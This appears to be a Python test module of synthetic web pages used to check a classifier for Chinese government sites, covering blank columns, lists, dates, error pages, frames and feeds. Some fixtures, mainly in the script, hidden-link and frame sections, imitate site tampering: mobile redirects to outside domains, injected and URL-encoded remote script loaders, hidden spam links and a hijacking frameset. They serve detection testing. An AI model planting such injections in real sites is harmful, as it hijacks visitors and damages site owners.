# ruff: noqa: E501
"""Pages of builders the reader was not tuned on: columns that show no list and are not blank, lists that are only a
part of an article, dates in pieces, scripts other than Chinese, answers of accounts and servers."""

from collections.abc import Iterator
from typing import Any

from tests.reading.article_frame import HOST, PROSE, SITE, foot
from tests.reading.scoring import PageCase

_MENU = "".join(
    f'<a href="/{path}/">{name}</a>'
    for path, name in (
        ("", "首页"),
        ("zwgk", "政务公开"),
        ("bsfw", "办事服务"),
        ("hdjl", "互动交流"),
        ("zjyl", "走进云岭"),
    )
)
HEADLINES = (
    "市政府召开第六十二次常务会议", "关于公开征求《云岭市燃气管理办法》意见的公告", "我市开展安全生产大检查“回头看”", "云岭市2026年度政府信息公开工作年度报告发布",
    "市长赴东山县调研乡村振兴工作", "全市防汛抗旱工作电视电话会议召开", "关于表彰2025年度先进集体的决定", "市应急管理局组织开展消防演练",
)  # fmt: skip


def _case(name: str, html: str | bytes, kind: str, *, url: str | None = None, **expect: Any) -> PageCase:
    body = html if isinstance(html, bytes) else html.encode()
    return PageCase(f"strangers/{name}", body, {"kind": kind} | expect, url=url)


def _page(title: str, inner: str, head: str = "") -> str:
    return f"<html><head><meta charset=utf-8><title>{title}</title>{head}</head><body><div class=menu>{_MENU}</div>{inner}{foot()}</body></html>"


def _column(title: str, inner: str) -> str:
    return _page(
        f"{title}_{SITE}", f"<div>当前位置：<a href='/'>首页</a> &gt; {title}</div><div class=con>{inner}</div>"
    )


def _rows(count: int = 8, path: str = "/xw/") -> str:
    rows = (f"<li><a href='{path}{i}.html'>{HEADLINES[i]}</a><span>2026-11-{19 - i}</span></li>" for i in range(count))
    return f"<ul>{''.join(rows)}</ul>"


def cases() -> Iterator[PageCase]:
    yield from _not_blank()
    yield from _lists_and_articles()
    yield from _fronts()
    yield from _dates()
    yield from _answers()
    yield from _scripts()
    yield from _frames()
    yield from _feeds()
    yield from _undated()
    yield from _boxes()
    yield from _phrases()
    yield from _facts()
    yield from _services()
    yield from _rows_of_facts()
    yield from _offices()


def _not_blank() -> Iterator[PageCase]:
    """A column is blank only when there is nothing to see, to read or to fill in."""
    yield _case("chart-as-picture", _column("组织机构图", "<img src='/upload/jgt2026.jpg' width=800>"), "other")
    yield _case("map-in-frame", _column("交通指南", "<iframe src='//map.example.cn/x'></iframe>"), "other")
    yield _case("report-embedded", _column("部门决算", "<embed src='/upload/2025js.pdf'>"), "other")
    yield _case(
        "letter-to-write",
        _column(
            "我要写信", "<form><input name=bt><input name=dh><textarea name=nr></textarea><input type=submit></form>"
        ),
        "other",
    )
    yield _case(
        "application-to-fill-in",
        _column(
            "依申请公开",
            "<form><table><tr><td>姓名*</td><td><input name=xm></td></tr><tr><td>证件号码*</td><td><input name=zj></td></tr><tr><td>联系电话</td><td><input name=dh></td></tr></table></form>",
        ),
        "other",
    )
    yield _case(
        "contacts",
        _column("联系我们", "<p>地址：云岭市人民路1号</p><p>电话：0899-1234567</p><p>邮编：650000</p>"),
        "article",
    )
    yield _case(
        "blank-with-search-box",
        _column("行政许可", "<form><input name=kw><input type=submit value=查询></form>"),
        "blank_column",
    )
    yield _case("blank-with-ornament", _column("规划计划", "<img src='/images/line.gif'><ul></ul>"), "blank_column")
    yield _case(
        "blank-with-menu",
        _column(
            "规划计划",
            "<ul><li><a href='/gh/1/'>专项规划</a></li><li><a href='/gh/2/'>区域规划</a></li></ul><div></div>",
        ),
        "blank_column",
    )
    yield _case(
        "only-box-bears-a-side-word",
        _column("政府信息公开", f"<h3>最新公开</h3>{_rows(5)}<h3>政策文件</h3>{_rows(5, '/zc/')}"),
        "list",
        newest="2026-11-19",
    )


def _lists_and_articles() -> Iterator[PageCase]:
    title = "云岭市春季农业生产现场会在东山县召开"
    text = PROSE[:900]
    yield _case(
        "article-beside-dated-list",
        _page(f"{title}_{SITE}", f"<div class=l><h3>工作动态</h3>{_rows()}</div><h1>{title}</h1><div>{text}</div>"),
        "article",
        date=None,
        items=0,
    )
    yield _case(
        "article-above-dated-list",
        _page(f"{title}_{SITE}", f"<h1>{title}</h1><div>{text}</div><h3>工作动态</h3>{_rows()}"),
        "article",
        date=None,
        items=0,
    )
    intro = (
        "为深入贯彻落实党中央、国务院决策部署，进一步优化营商环境，切实解决企业急难愁盼问题，本专栏集中展示全市各级各部门的举措、成效与典型案例，欢迎社会各界监督。"
        * 2
    )
    yield _case(
        "list-with-introduction",
        _page(
            "云岭市优化营商环境专题专栏",
            f"<h1>云岭市优化营商环境专题专栏</h1><p>{intro}</p>{_rows()}<div>共 3 页 <a href='i_1.html'>下一页</a></div>",
        ),
        "list",
        items=8,
    )
    asked = (
        "如何申领失业保险金？",
        "新生儿落户需要什么材料？",
        "公租房如何申请办理？",
        "异地就医怎么备案？",
        "如何查询医保余额？",
        "老年优待证在哪里办理？",
    )
    answer = (
        "答：请本人携带身份证原件到就近的政务服务中心窗口办理，也可以通过政务服务网在线提交申请，五个工作日内办结。"
    )
    yield _case(
        "questions-with-answers",
        _column(
            "便民问答",
            "".join(
                f"<dl><dt><a href='/faq/{900 + i}.html'>{q}</a></dt><dd>{answer}</dd></dl>" for i, q in enumerate(asked)
            ),
        ),
        "list",
        items=6,
    )
    yield _case(
        "article-that-links-its-sources",
        _column(
            "政策解读",
            f"<h1>惠企政策汇总解读及申报指引</h1>{''.join(f'<p>为支持企业发展，我市出台一系列措施，明确补助标准、申报条件和办理流程，详见<a href=/zc/{1000 + i}.html>《关于支持企业发展若干措施之{i}》</a>。</p><p>申报单位应当对材料真实性负责，逾期不予受理。</p>' for i in range(6))}",
        ),
        "article",
    )


def _fronts() -> Iterator[PageCase]:
    name = "云岭市林业和草原局"
    site = f"<meta name=SiteName content='{name}'>"
    blocks = f"<h3>要闻</h3>{_rows(6)}<h3>公告</h3>{_rows(5, '/gg/')}"
    yield _case("site-in-a-folder", _page(name, blocks, site), "homepage", url=f"{HOST}/lcj/")
    yield _case("column-of-it", _page(f"通知公告-{name}", blocks, site), "list", url=f"{HOST}/lcj/")
    yield _case("small-front", _page("云岭县粮食局", _rows(5)), "homepage", url="http://lsj.yunling.example.cn/")
    yield _case(
        "front-of-two-doors",
        _page(SITE, "<a href='/cn/'><img src=cn.jpg alt=中文版></a><a href='/en/'>English</a>"),
        "homepage",
        url=f"{HOST}/",
    )
    default = "<html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed and working. Further configuration is required.</p><a href='http://nginx.org/'>nginx.org</a> <a href='http://nginx.com/'>nginx.com</a></body></html>"
    yield _case("default-page-at-the-root", default, "other", url=f"{HOST}/")


def _dates() -> Iterator[PageCase]:
    def article(info: str, title: str = "全市春季农业生产现场会在东山县召开", before: str = "") -> str:
        return _page(f"{title}_{SITE}", f"{before}<h1>{title}</h1>{info}<div>{PROSE}</div>")

    day = "2024-10-12"
    for name, info in (
        ("day-over-month", "<div class=d><b>12</b><span>2024-10</span></div>"),
        ("day-over-month-in-blocks", "<div><p>12</p><p>2024-10</p></div>"),
        ("day-stroke-month-year", "<div><em>12</em>/<i>10月</i><i>2024</i></div>"),
        ("year-over-month-and-day", "<div><p>2024</p><p>10/12</p><p>19:02</p></div>"),
        ("between-strokes", "<div>云岭日报 | 2024-10-12 | 王某某</div>"),
        ("uyghur", "<div dir=rtl>ۋاقتى: 2024-10-12  مەنبە: تەڭرىتاغ تورى</div>"),
        ("tibetan", "<div>དུས་ཚོད། 2024-10-12 ཁུངས། ཚགས་པར།</div>"),
    ):
        yield _case(f"date-{name}", article(info), "article", date=day)
    yield _case(
        "date-glued-to-time",
        article("<div><span>发布时间：10-08</span><span>12:00</span><span>优质作者</span></div>"),
        "article",
        date="2026-10-08",
    )
    yield _case(
        "headline-that-ends-like-a-label", article("", before=f"<div class=l>{_rows()}</div>"), "article", date=None
    )
    yield _case(
        "title-that-ends-like-a-label",
        article("<div>2024-10-12</div>", "云岭市政府信息公开工作年度报告发布"),
        "article",
        date=day,
    )
    yield _case("event-after-unknown-label", article("<div>比赛日 2024-10-12 | 第二赛区</div>"), "article", date=None)


def _answers() -> Iterator[PageCase]:
    def small(title: str, said: str) -> str:
        return f"<html><head><meta charset=utf-8><title>{title}</title></head><body>{said}</body></html>"

    account = "https://mp.weixin.qq.com/s/x"
    yield _case(
        "account-moved",
        small(
            "",
            "<h2>该公众号已迁移</h2><p>该公众号已迁移至新的账号，原账号已回收。若需访问原文章链接，请点击下方按钮。</p><a>访问文章</a>",
        ),
        "soft_404",
        url=account,
    )
    yield _case("account-banned", small("", "<h2>账号已被屏蔽，内容无法查看</h2>"), "soft_404", url=account)
    yield _case(
        "account-says-it-moved",
        small(
            "",
            f"<div id=js_article><h1 id=activity-name>公告：本公众号已迁移至“云岭发布”</h1><div id=js_content>{PROSE}</div></div><script>var ct = '1790000000';</script>",
        ),
        "article",
        url=account,
        date="2026-09-21",
    )
    yield _case(
        "firewall-module",
        small(
            "Not Acceptable!",
            "<h1>Not Acceptable!</h1><p>An appropriate representation of the requested resource could not be found on this server. This error was generated by Mod_Security.</p>",
        ),
        "waf_block",
    )
    yield _case("shut-out-by-region", small("访问限制", "<h3>抱歉，您所在的地区暂时无法访问本网站</h3>"), "waf_block")
    yield _case(
        "code-to-go-on",
        small("请输入验证码", "<form><p>请输入图片中的验证码，继续访问</p><input name=code></form>"),
        "js_challenge",
    )
    yield _case(
        "visitor-system",
        small("Sina Visitor System", "<span id=message></span><script>var url={};</script>"),
        "js_challenge",
    )
    yield _case(
        "tomcat",
        small(
            "Apache Tomcat/8.5.31",
            "<h1>Apache Tomcat/8.5.31</h1><p>If you're seeing this, you've successfully installed Tomcat. Congratulations!</p>",
        ),
        "other",
    )
    yield _case(
        "domain-for-sale",
        small(
            "yunling.cn",
            "<h1>您正在访问的域名 yunling.cn 可以转让！</h1><p>This domain is for sale. 联系人：张先生，有意者请来电洽谈。</p>",
        ),
        "other",
    )
    yield _case(
        "article-on-domains",
        small("警惕域名骗局", f"<h1>警惕“域名可以转让”骗局</h1><div>2026-03-01 来源：市公安局</div>{PROSE}"),
        "article",
        date="2026-03-01",
    )


def _scripts() -> Iterator[PageCase]:
    """Scripts that look at the browser and name a foreign host, and scripts in which the one decides the other."""
    title = "全市春季农业生产现场会在东山县召开"
    filler = "function f%d(a,b){var c=a+b;for(var i=0;i<c;i++){a=a^i;}return a?b:c;}" * 60

    def article(script: str) -> str:
        return _page(
            f"{title}_{SITE}",
            f"<h1>{title}</h1><div>2024-10-12 来源：云岭日报</div><div>{PROSE}</div><script>{script}</script>",
        )

    for name, script in (
        (
            "picture-for-desktops",
            "var m=/android|iphone|mobile/.test(navigator.userAgent.toLowerCase());if(!m){var p=new Image();p.src='//img2.cache.wenyuan.example.com/foot_pop.jpg';}",
        ),
        (
            "report-of-errors",
            f"var ua=navigator.userAgent;var old=/msie 6|android 2/i.test(ua);{filler}var B=new Image,S='https://badjs.bridge.example.com/badjs?id='+l;B.src=S.slice(0,1024);",
        ),
        (
            "addresses-to-share",
            f"var m=/iphone|android/i.test(navigator.userAgent);{filler}window.open(u.replace('{{url}}',location.href));var douban='http://www.douban.example.com/share/service?href={{url}}';",
        ),
    ):
        yield _case(f"script-{name}", article(script), "article", tamper=False, hidden=False)
    for name, script in (
        (
            "sent-away-in-a-library",
            f"{filler}if(/baiduspider|sogou/i.test(navigator.userAgent)==false&&/android|iphone/i.test(navigator.userAgent)){{location.href='https://www.vnsr8808.example.com/app'}}{filler}",
        ),
        (
            "script-in-a-library",
            f"{filler}if(document.referrer.indexOf('baidu')>0){{var s=document.createElement('script');s.src='//js.tycqwe.example.net/j.js';document.body.appendChild(s);}}{filler}",
        ),
    ):
        yield _case(f"script-{name}", article(script), "article", tamper=True)

    own = "<li><a href='/a/'>转繁体版</a></li><li><a href='/b/'>手机版</a></li><li><a href='http://old.zhanwo.example.com/i.php'>旧版回顾</a></li>"
    gaps = f"<style>.bar{{font-size:0}}.bar li{{display:inline-block;font-size:14px}}</style><ul class=bar>{own}</ul>"
    elsewhere = f"<link rel=stylesheet href=a.css><div style='font-size : 0px'><ul>{own}</ul></div>"
    sold = "<div style='font-size:0'><a href='http://www.ruifengjx.example.com/'>瑞丰机械</a><a href='http://www.hytsgd.example.net/'>管道疏通</a></div>"
    for name, part, hidden in (("gaps", gaps, False), ("elsewhere", elsewhere, False), ("sold", sold, True)):
        yield _case(f"no-font-size-{name}", article("").replace("<h1>", f"{part}<h1>"), "article", hidden=hidden)
    player = "if(/iPhone|Android/.test(navigator.userAgent)){document.write('<video src=http://vod.wenyuan.example.com/a.mp4></video>')}"
    yield _case("script-player", article(player), "article", tamper=False)
    written = "document.write(unescape('%3Cscript src=%22http://js.qwetyc.example.xyz/a.js%22%3E%3C/script%3E'))"
    yield _case("script-written-encoded", article(written), "article", tamper=True)
    yield _case(
        "defaced",
        "<html><head><title>首页</title></head><body><h1>本站已被黑客入侵！管理员请尽快修补漏洞</h1></body></html>",
        "other",
        tamper=True,
    )
    strange = "<html><head><title>云岭县人民政府</title></head><frameset cols='100%'><frame src='http://www.vn99887766.example.top/'></frameset></html>"
    yield _case("front-of-a-stranger", strange, "homepage", url="http://www.ylx.example.cn/", tamper=True)


def _frames() -> Iterator[PageCase]:
    """What stands in frames is another page: nothing may be concluded from the page around them."""
    frames = "<html><head><title>{}</title></head><frameset rows='120,*'><frame src='top.htm'><frame src='{}'><noframes><body>您的浏览器不支持框架</body></noframes></frameset></html>"
    front = "http://www.ylx.example.cn/"
    yield _case(
        "front-in-frames",
        frames.format("云岭县人民政府", "main.htm").encode("gbk"),
        "homepage",
        url=front,
        verdict="inconclusive",
    )
    yield _case(
        "front-in-frames-without-address",
        frames.format("云岭县人民政府", "main.htm"),
        "homepage",
        verdict="inconclusive",
    )
    yield _case(
        "column-in-frames",
        frames.format("通知公告", "right.asp"),
        "app_shell",
        url=f"{front}tzgg/i.asp",
        verdict="inconclusive",
    )
    yield _case(
        "nothing-but-a-frame",
        "<html><head><title>办事服务</title></head><body style='margin:0'><iframe src='http://zwfw.example.cn/index' width=100% height=1200></iframe></body></html>",
        "app_shell",
        url=f"{front}bsfw/",
    )
    yield _case(
        "article-with-a-player",
        _page(
            f"市人大会议闭幕_{SITE}",
            f"<h1>市人大会议闭幕</h1><div>2026-02-01 来源：市人大</div>{PROSE}<iframe src='//v.example.cn/x'></iframe>",
        ),
        "article",
        date="2026-02-01",
        verdict="ok",
    )
    yield _case(
        "sent-on-by-a-form",
        "<html><body onload='document.forms[0].submit()'><form action='/sso' method=post><input type=hidden name=r value=x></form></body></html>",
        "redirect_stub",
    )


def _feeds() -> Iterator[PageCase]:
    """What a column's scripts ask for is a list as well: JSON and feeds."""
    a, b = "关于调整公交线路的公告", "关于城区道路施工封闭的公告"
    rss = f"<?xml version='1.0' encoding='utf-8'?><rss version='2.0'><channel><title>通知公告</title><link>{HOST}/</link><item><title><![CDATA[{a}]]></title><link>{HOST}/1.html</link><pubDate>Mon, 02 Nov 2026 02:00:00 GMT</pubDate></item><item><title>{b}</title><link>{HOST}/2.html</link><pubDate>Fri, 02 Oct 2026 02:00:00 GMT</pubDate></item></channel></rss>"
    atom = f"<?xml version='1.0'?><feed xmlns='http://www.w3.org/2005/Atom'><title>通知公告</title><entry><title>{a}</title><link href='{HOST}/1.html'/><updated>2026-11-02T02:00:00Z</updated></entry><entry><title>{b}</title><link href='{HOST}/2.html'/><updated>2026-10-02T02:00:00Z</updated></entry></feed>"
    rows = f'{{"code":200,"data":{{"total":2,"rows":[{{"title":"{a}","url":"/art/1.html","publishTime":"2026-11-02 10:00:00"}},{{"title":"{b}","url":"/art/2.html","publishTime":"2026-10-02 10:00:00"}}]}}}}'
    one = f'{{"success":true,"infolist":[{{"infotitle":"{a}","infourl":"/art/2026/11/2/art_1_2.html","infodate":"2026-11-02"}}]}}'
    for name, text, items in (("rss", rss, 2), ("atom", atom, 2), ("json-rows", rows, 2), ("json-one", one, 1)):
        yield _case(f"feed-{name}", text, "list", items=items, newest="2026-11-02")
    yield _case("json-of-nothing", '{"code":0,"msg":"ok","data":null}', "other", items=0)
    yield _case(
        "json-of-an-article",
        f'{{"code":0,"data":{{"title":"{a}","content":"<p>内容</p>","publishTime":"2026-11-02"}}}}',
        "other",
        items=0,
    )
    yield _case(
        "map-of-the-site",
        f"<?xml version='1.0'?><urlset><url><loc>{HOST}/</loc><lastmod>2026-11-01</lastmod></url></urlset>",
        "other",
        items=0,
    )


def _undated() -> Iterator[PageCase]:
    """Entries without a date that are no menu: topics with a picture each, issues of a gazette, two in a script."""
    topics = ("党史学习教育", "乡村振兴", "优化营商环境", "安全生产月")
    yield _case(
        "topics-with-pictures",
        _column(
            "专题专栏",
            "".join(
                f"<div class=item><a href='/zt/{i}/'><img src='/zt/{i}.jpg'></a><p><a href='/zt/{i}/'>{name}</a></p></div>"
                for i, name in enumerate(topics)
            ),
        ),
        "list",
        items=4,
    )
    yield _case(
        "topics-as-pictures",
        _column(
            "专题专栏",
            f"<ul>{''.join(f'<li><a href=/ztzl/zt{i}/index.html><img src=./P020{i}.jpg alt={name}></a></li>' for i, name in enumerate(topics))}</ul>",
        ),
        "list",
        items=4,
    )
    yield _case(
        "blank-above-marks-of-others",
        _column(
            "规划计划",
            f"<ul></ul><div class=yq>{''.join(f'<a href=http://www.{i}.example.org><img src=/{i}.jpg alt={name}></a>' for i, name in enumerate(topics))}</div>",
        ),
        "other",
        items=0,
    )
    yield _case(
        "issues-of-a-gazette",
        _column(
            "政府公报",
            f"<h4>2026年</h4><ul>{''.join(f'<li><a href=/gb/2026/{n}/>2026年第{n}期（总第{200 + n}期）</a></li>' for n in range(1, 7))}</ul>",
        ),
        "list",
        items=6,
    )
    script = '<div id=l></div><script>var list=[{title:"云岭市水库管理处职责",url:"/jg/1.html"},{title:"云岭市水文站职责介绍",url:"/jg/2.html"}];show(list);</script>'
    yield _case("two-in-a-script", _column("下属单位", script), "list", items=2)
    menu = '<script>var menu=[{title:"政务公开栏目",url:"/zwgk/"},{title:"互动交流栏目",url:"/hdjl/"}];draw(menu);</script><p>暂无信息</p>'
    yield _case("menu-in-a-script", _column("下属单位", menu), "blank_column", items=0)


def _boxes() -> Iterator[PageCase]:
    """What a builder wraps around a page, or puts beside its content, changes nothing of what is read."""
    title = "关于开展养老机构消防安全检查的通知"
    table = f"<table><tr><td>索 引 号：</td><td>014231/2026-00031</td><td>信息分类：</td><td>通知</td></tr><tr><td>发布机构：</td><td>市民政局</td><td>公开日期：</td><td>2026-03-06</td></tr><tr><td>名　　称：</td><td colspan=3>{title}</td></tr></table>"
    yield _case(
        "named-in-its-table",
        _page("索 引 号：", f"{table}<div class=bt>{title}</div>{PROSE}"),
        "article",
        title=title,
        date="2026-03-06",
    )
    gazette = "云岭市人民政府办公室关于加强气象灾害防御的意见"
    signed = f"<h3>{gazette}</h3><p>各县（市、区）人民政府：</p>{PROSE}<p>云岭市人民政府办公室</p><p>2026年5月9日</p>"
    yield _case(
        "signed-like-a-headline", _page("云岭市人民政府公报2026年第5期", signed), "article", title=gazette, date=None
    )
    box = "<div class=hb><h3>热点推荐</h3><ul><li><a href='/hot/t202601_91.html'>我市举行国庆升旗仪式活动现场</a></li><li><a href='/hot/t202602_92.html'>全市重大项目集中开工仪式举行</a></li><li><a href='/hot/t202603_93.html'>云岭市召开经济运行分析会议</a></li></ul></div>"
    yield _case(
        "contacts-beside-a-box",
        _column("联系我们", f"{box}<p>地址：云岭市人民路1号</p><p>电话：0899-1234567</p>"),
        "article",
        title="联系我们",
    )
    short = "<ul><li><a href='/rs/1.html'>关于张某某等同志任职的通知</a><span>2026-03-02</span></li><li><a href='/rs/2.html'>关于李某某同志免职的通知</a><span>2025-12-30</span></li></ul>"
    yield _case("short-list-beside-a-box", _page("人事任免", f"{box}{short}"), "list", items=2, newest="2026-03-02")
    clock = "<div><span>2026年11月20日 星期五</span><span>多云 12℃</span></div>"
    blank = _column(
        "建议提案", "<table><tr><th>标题</th><th>发布日期</th></tr><tr><td colspan=2>没有检索到数据！</td></tr></table>"
    )
    yield _case(
        "blank-below-a-clock", blank.replace("<div class=menu>", f"{clock}<div class=menu>"), "blank_column", date=None
    )
    yield _case(
        "gone-below-a-clock", f"<html><body>{clock}<p>该内容已被发布者删除</p></body></html>", "soft_404", date=None
    )
    dark = "<div style='display:none'><a href='http://www.ruifengjx.example.com/'>瑞丰机械</a><a href='http://www.hytsgd.example.net/'>管道疏通</a></div>"
    text = f"<h1>{title}</h1><div>2026-03-06 来源：市民政局</div>{PROSE}{dark}"
    form = "<form method=post action='show.aspx?id=8' id=form1><input type=hidden name=__VIEWSTATE value='/wEPDwUK'>"
    yield _case(
        "dark-links-in-the-form-of-a-page",
        _page(title, text).replace("<body>", f"<body>{form}"),
        "article",
        hidden=True,
    )
    yield _case(
        "dark-links-in-a-wrapper",
        _page(title, text).replace("<body>", "<body><div id=app class='sub-page nav_con1'>"),
        "article",
        hidden=True,
    )
    window = "<div class=modal><form><div style='display:none'><a href='http://www.ynxxb.example.com/1'>云南信息报</a></div></form></div>"
    yield _case("window-that-waits", _page(title, text.replace(dark, window)), "article", hidden=False)


def _phrases() -> Iterator[PageCase]:
    """A short article may say what a page without content says."""
    title = "云岭市民文化节周末开幕活动安排"
    short = "<p>第十届市民文化节将于周末开幕，期间举办音乐会、书画展和非遗集市等二十余场活动，市民可免费参加。</p>"
    for name, said in (
        ("soon", "更多精彩，敬请期待！"),
        ("empty", "名额暂无内容限制"),
        ("quoted", "有市民反映，打开后显示“该栏目暂无数据”。"),
    ):
        html = _page(f"{title}_{SITE}", f"<h1>{title}</h1><div>2026-03-06 来源：市文旅局</div>{short}<p>{said}</p>")
        yield _case(f"short-article-{name}", html, "article", date="2026-03-06")
    undated = _page(f"{title}_{SITE}", f"<h1>{title}</h1>{short * 3}<p>您访问的页面不存在</p><p>网站正在升级维护中</p>")
    yield _case(
        "undated-article-saying-so", undated, "article", url=f"{HOST}/art/2026/3/6/art_12_345.html", date="2026-03-06"
    )
    moved = "<h1>网站改版公告</h1><p>发布时间：2026-03-04</p><p>云岭市政府网站新版于3月5日上线，旧版同时停止更新，敬请关注。</p>"
    yield _case("one-sentence-and-its-day", _page("网站改版公告", moved), "article", date="2026-03-04")
    notice = "<p>尊敬的用户，为提升服务质量，我市政务服务网站将进行全面升级，期间网站暂停访问，给您带来不便，敬请谅解。</p><p>咨询电话请拨打当地服务热线，我们将竭诚为您服务。</p>"
    yield _case(
        "notice-instead-of-a-page",
        f"<html><head><title>关于网站系统升级维护的公告</title></head><body><h1>关于网站系统升级维护的公告</h1>{notice}</body></html>",
        "maintenance",
    )
    yield _case(
        "updated-day-keeps-its-year",
        _page(title, f"<h1>{title}</h1><div>更新时间：2024年10月12日　来源：市文旅局</div>{PROSE}"),
        "article",
        date="2024-10-12",
        date_kind="updated",
    )
    yield _case(
        "refused-day-keeps-its-year",
        _page(title, f"<h1>{title}</h1><div>有效期至：2024年10月12日</div>{PROSE}"),
        "article",
        date=None,
    )


def _facts() -> Iterator[PageCase]:
    """Days that stand in odd places: behind another label, below a line of facts, over a link, in a script."""
    title = "市政府召开全市优化营商环境推进会议"

    def article(info: str) -> str:
        return _page(f"{title}_{SITE}", f"<h1>{title}</h1>{info}<div>{PROSE}</div>")

    yield _case(
        "entered-checked-published",
        article("<div>录入日期：2026-03-04　审核日期：2026-03-05　发布日期：2026-03-06</div>"),
        "article",
        date="2026-03-06",
    )
    yield _case("only-entered", article("<div>录入时间：2026-03-04　录入者：admin</div>"), "article", date="2026-03-04")
    yield _case(
        "weekday-on-the-second-line",
        article("<div>来源：云岭日报</div><div>2026年3月4日 星期三</div>"),
        "article",
        date="2026-03-04",
    )
    yield _case(
        "weekday-above-the-title",
        _page(title, f"<div>2026年3月4日 星期三</div><h1>{title}</h1><div>来源：云岭日报</div>{PROSE}"),
        "article",
        date=None,
    )
    over = "".join(
        f"<li><a href='/y/{i}.html' title='文章标题：{name}&#10;发表时间：2026-11-{19 - i} 10:00&#10;点击数：33'>{name[:8]}…</a></li>"
        for i, name in enumerate(HEADLINES)
    )
    yield _case("days-over-the-links", _column("政务要闻", f"<ul>{over}</ul>"), "list", items=8, newest="2026-11-19")
    declared = "<div class=foot><a href='/art/2020/1/1/art_1_1001.html'>网站使用声明及隐私保护</a><a href='/art/2020/1/1/art_1_1002.html'>政府网站年度工作报表</a><a href='/art/2020/1/1/art_1_1003.html'>政务新媒体矩阵及监管</a></div>"
    yield _case(
        "blank-above-declarations",
        _column("行政复议", "").replace("</body>", f"{declared}</body>"),
        "blank_column",
        items=0,
    )
    account = "<html><head><title></title><meta property='og:title' content='云岭发布周末文化活动指南'></head><body><div id=js_article><h1 class=rich_media_title id=activity-name></h1><div id=js_content>{}</div></div><script>{}</script></body></html>"
    for name, script in (
        ("choice", "d.ct = xml ? getXmlValue('ct') : '1790000000';"),
        ("json", 'window.cgiDataNew={"create_time":1790000000}'),
    ):
        html = account.format(PROSE, script)
        yield _case(
            f"account-{name}",
            html,
            "article",
            url="https://mp.weixin.qq.com/s/y",
            date="2026-09-21",
            title="云岭发布周末文化活动指南",
        )


def _services() -> Iterator[PageCase]:
    """Tables of matters, boxes to log in, pages that offer a list instead of what was asked for."""
    talk = "<h1>市教育局局长谈义务教育招生政策</h1><div>访谈时间：2026-05-12 10:00　访谈嘉宾：李某某</div>"
    yield _case("interview", _column("在线访谈", f"{talk}{PROSE}"), "article", date=None)
    matters = "".join(
        f"<tr><td>{i}</td><td><a href='/qz/{i + 100}.html'>{name}</a></td><td>行政许可</td></tr>"
        for i, name in enumerate(("食品经营许可", "药品零售许可", "特种设备登记", "计量标准核准"))
    )
    yield _case(
        "table-of-matters",
        _column("权责清单", f"<table><tr><th>序号</th><th>事项</th><th>类型</th></tr>{matters}</table>"),
        "list",
        items=4,
    )
    box = "<form><input name=u placeholder=用户名><input type=password name=p><button>登录</button></form>"
    yield _case("box-to-log-in", _page("通知公告", f"{box}{_rows(3)}"), "list", items=3)
    yield _case(
        "page-to-log-in", f"<html><head><title>用户登录</title></head><body>{box}{_rows(3)}</body></html>", "login"
    )
    gone = "<h2>抱歉，您访问的页面不存在</h2><p>5秒后返回首页</p>"
    yield _case("gone-with-a-list", _page(f"404-{SITE}", f"{gone}<h3>最新发布</h3>{_rows(8)}"), "soft_404")
    yield _case(
        "headline-on-gone-pages",
        _page("整治“页面不存在”", f"<h1>整治“页面不存在”</h1><div>2026-03-05</div>{PROSE}{_rows(3)}"),
        "article",
        date="2026-03-05",
    )
    loader = "<div id=page></div><script>$.ajax({url:'/api/list',success:function(d){show(d)}})</script>"
    yield _case(
        "list-by-script",
        f"<html><head><title>通知公告</title></head><body><div>首页 &gt; 通知公告</div><ul id=list></ul>{loader}</body></html>",
        "app_shell",
    )


def _rows_of_facts() -> Iterator[PageCase]:
    """Rows that print more than a title and a day."""
    for name, facts in (
        ("label", "发布时间：2026-11-{}"),
        ("iso", "2026-11-{}T08:30:00"),
        ("strokes", "| 2026-11-{} |"),
        ("views", "2026-11-{} 浏览：52次"),
    ):
        cards = "".join(
            f"<li><a href='/y/{i}.html'><p>{title}</p><span>{facts.format(19 - i)}</span></a></li>"
            for i, title in enumerate(HEADLINES)
        )
        spans = cards.replace("<p>", "<b>").replace("</p>", "</b>")
        loose = "".join(
            f"<li><a href='/y/{i}.html'>{title}<span>{facts.format(19 - i)}</span></a></li>"
            for i, title in enumerate(HEADLINES)
        )
        for form, rows in (("blocks", cards), ("spans", spans), ("loose", loose)):
            yield _case(
                f"card-{name}-{form}", _column("政务要闻", f"<ul>{rows}</ul>"), "list", items=8, newest="2026-11-19"
            )
    table = "".join(
        f"<tr><td>{i}</td><td><a href='/zc/{i}.html'>{title}</a></td><td>云政办发〔2026〕{i}号</td><td>成文：2026-10-{19 - i}；印发范围：各县（市、区）</td><td>发布：2026-11-{19 - i}</td></tr>"
        for i, title in enumerate(HEADLINES)
    )
    yield _case("long-rows", _column("政策文件", f"<table>{table}</table>"), "list", items=8, newest="2026-11-19")
    two = "".join(f"<div><a href='/x/{i}.html'>{HEADLINES[i]}</a></div><div>11-{19 - i}</div>" for i in range(2))
    yield _case("two-entries-by-month-and-day", _column("政务要闻", two), "list", items=2, newest="2026-11-19")


def _offices() -> Iterator[PageCase]:
    """Links to other parts of the site are content where they are no menu."""
    names = ("市发展改革委", "市教育局", "市工业和信息化局", "市公安局", "市司法局", "市财政局")
    links = "".join(f"<li><a href='/jg/{i}/'>{name}</a></li>" for i, name in enumerate(names))
    yield _case("offices", _column("机构设置", f"<div class=right><ul>{links}</ul></div>"), "other")
    yield _case(
        "blank-beside-a-menu",
        _column("机构设置", f"<div class=left_menu><ul>{links}</ul></div><div class=right></div>"),
        "blank_column",
    )
